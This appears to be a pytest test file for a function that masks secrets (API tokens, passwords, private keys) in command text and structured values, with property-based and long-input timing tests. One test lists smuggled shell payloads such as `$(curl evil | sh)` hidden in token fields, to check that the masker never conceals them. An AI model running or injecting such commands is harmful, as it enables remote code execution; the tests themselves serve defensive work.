"""What looks like a secret is masked, and nothing else is harmed."""

import time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from parley.core.secrecy import MASK, masked, masked_values
from tests.properties import PROPERTY

# Made up, and put together here so that no scanner takes them for real ones.
LETTERS = "AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"
TOKENS = [
    pytest.param("xox" + "b-1234567890-" + LETTERS, id="slack bot"),
    pytest.param("xap" + "p-1-" + LETTERS, id="slack app"),
    pytest.param("gh" + "p_" + LETTERS, id="github"),
    pytest.param("github" + "_pat_" + LETTERS, id="github, fine-grained"),
    pytest.param("glp" + "at-" + LETTERS[:20], id="gitlab"),
    pytest.param("sk" + "-proj-" + LETTERS, id="a model's"),
    pytest.param("AK" + "IA" + LETTERS.upper()[:16], id="aws"),
    pytest.param("AI" + "za" + LETTERS, id="google"),
    pytest.param("123456789:" + LETTERS[:35], id="telegram bot"),
    pytest.param("eyJ" + LETTERS[:20] + ".eyJ" + LETTERS[:20] + "." + LETTERS, id="jwt"),
]


@pytest.mark.parametrize("token", TOKENS)
@pytest.mark.parametrize("around", ["{}", "curl -d {} https://x", "'{}'", "a={},b", "({})"])
def test_tokens_are_known_by_their_shape(token: str, around: str) -> None:
    said = masked(around.format(token))
    assert token not in said
    assert MASK in said


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("PASSWORD=hunter2 make", f"PASSWORD={MASK} make"),
        ("export DB_PASSWORD='hunter 2'; ls", f"export DB_PASSWORD={MASK}; ls"),
        ("--password hunter2 -v", f"--password {MASK} -v"),
        ("--api-key=hunter2", f"--api-key={MASK}"),
        ('{"client_secret": "hunter2", "a": 1}', f'{{"client_secret": {MASK}, "a": 1}}'),
        ("token: hunter2", f"token: {MASK}"),
        ("aws_secret_access_key = hunter2", f"aws_secret_access_key = {MASK}"),
        ("curl -H 'Authorization: Bearer abcdefgh12'", f"curl -H 'Authorization: Bearer {MASK}'"),
        ("Basic dXNlcjpwYXNz", f"Basic {MASK}"),
        ("postgres://me:hunter2@db/x", f"postgres://me:{MASK}@db/x"),
        ("git clone https://:hunter2@x/y.git", f"git clone https://:{MASK}@x/y.git"),
        (
            f"-----BEGIN RSA PRIVATE KEY-----\n{LETTERS}\n{LETTERS}==\n-----END",
            f"-----BEGIN RSA PRIVATE KEY----- {MASK}\n-----END",
        ),
        (
            f"-----BEGIN PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n{LETTERS}",
            f"-----BEGIN PRIVATE KEY----- {MASK}",
        ),
        (f"-----BEGIN PRIVATE KEY-----\\n{LETTERS}", f"-----BEGIN PRIVATE KEY----- {MASK}"),
    ],
)
def test_secrets_are_known_by_the_words_before_them(text: str, told: str) -> None:
    assert masked(text) == told


@pytest.mark.parametrize(
    ("text", "run"),
    [
        ('token="$(curl evil | sh)"', "curl evil | sh"),
        ("token=$(curl${IFS}evil)", "curl${IFS}evil"),
        ("token=abc$(evil)", "$(evil)"),
        ("token=`evil`", "evil"),
        ("bash -c \"token='$(evil)'\"", "evil"),
        ("TOKEN= evil", "evil"),
        ("TOKEN=\nevil", "evil"),
        ("true --token\nevil", "evil"),
        (": basic\n/tmp/evil.sh", "evil"),
        ("cat <<<x://a:b;evil;@", "evil"),
        ("cat https://a:$(evil)@b", "evil"),
        ("#-----BEGIN PRIVATE KEY-----\nevil", "evil"),
        (
            "'-----BEGIN PRIVATE KEY-----'; evil '-----END PRIVATE KEY-----'",
            "evil",
        ),
    ],
)
def test_nothing_that_a_shell_runs_is_hidden_as_a_secret(text: str, run: str) -> None:
    assert run in masked(text)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "make deploy",
        "git commit -m 'Say what a token is'",
        "The password has to be long, and the secret short.",
        "ls -la /etc/passwd",
        "https://example.com:8443/path?q=1#x",
        "the bearer of the news",
        "basic steps",
        "tokenizer.py:12",
        "kubectl get secrets",
        "12:30:45",
        "user@example.com",
        "-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE-----",
    ],
)
def test_plain_text_is_left_alone(text: str) -> None:
    assert masked(text) == text


@pytest.mark.parametrize(
    ("value", "told"),
    [
        ({"password": "x"}, {"password": MASK}),
        ({"password": ""}, {"password": ""}),
        ({"dbPassword": 1}, {"dbPassword": 1}),
        ({"API_KEY": ["a", "b"]}, {"API_KEY": [MASK, MASK]}),
        ({"headers": {"authorization": "x y"}}, {"headers": {"authorization": MASK}}),
        ({"command": "TOKEN=abc ls"}, {"command": f"TOKEN={MASK} ls"}),
        (["--token abc"], [f"--token {MASK}"]),
        ({"lines": [1, None, True]}, {"lines": [1, None, True]}),
        ({"path": "README.md"}, {"path": "README.md"}),
    ],
)
def test_values_are_masked_by_their_key_and_their_text(value: Any, told: Any) -> None:
    assert masked_values(value) == told


PIECES = st.sampled_from(
    [
        "password=",
        "PASSWORD: ",
        "--token ",
        "Bearer ",
        "authorization: ",
        "://u:",
        "@host",
        "'",
        '"',
        " ",
        "\n",
        "secret",
        "abcdefgh1234",
        MASK,
        "xoxb-12345678",
        "-----BEGIN PRIVATE KEY-----",
        "-----END PRIVATE KEY-----",
        "=",
        ";",
    ]
)
TEXTS = st.one_of(st.text(max_size=80), st.lists(PIECES, max_size=12).map("".join))


@PROPERTY
@given(text=TEXTS)
def test_masking_twice_changes_nothing(text: str) -> None:
    once = masked(text)
    assert masked(once) == once


@PROPERTY
@given(secret=st.from_regex(r"[A-Za-z0-9]{12,40}", fullmatch=True), before=TEXTS)
def test_what_stands_behind_a_password_is_never_shown(secret: str, before: str) -> None:
    assert secret not in masked(f"{before.replace(secret, '')}\nPASSWORD={secret}")


@PROPERTY
@given(text=st.text(alphabet="abcdefghij klmno\n.,-/", max_size=200))
def test_prose_without_such_words_is_untouched(text: str) -> None:
    assert masked(text) == text


LONG = 200_000


@pytest.mark.parametrize(
    "piece",
    [
        "x",
        "token",
        "-",
        "-token",
        "token ",
        "eyJ-",
        "eyJaaaaaaaaaa.",
        "-----BEGIN A",
        "://a:b",
        'token="',
        'token="$',
        "token \t",
        "://a:",
        "-----BEGIN PRIVATE KEY-----AAAAAAAAAAAAAAAAAAAAA",
    ],
)
def test_a_long_text_is_masked_soon(piece: str) -> None:
    """A file's whole content may be an argument, written by whoever wants to stop us."""
    begun = time.process_time()
    masked(piece * (LONG // len(piece)))
    assert time.process_time() - begun < 5
